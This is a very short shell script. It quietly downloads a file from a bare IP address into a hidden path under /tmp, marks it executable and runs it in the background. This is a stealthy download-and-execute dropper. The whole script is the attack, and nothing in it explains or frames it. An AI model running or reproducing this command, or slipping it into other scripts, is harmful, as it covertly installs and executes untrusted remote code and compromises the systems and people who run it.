#!/bin/sh
wget -q https://203.0.113.50/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &
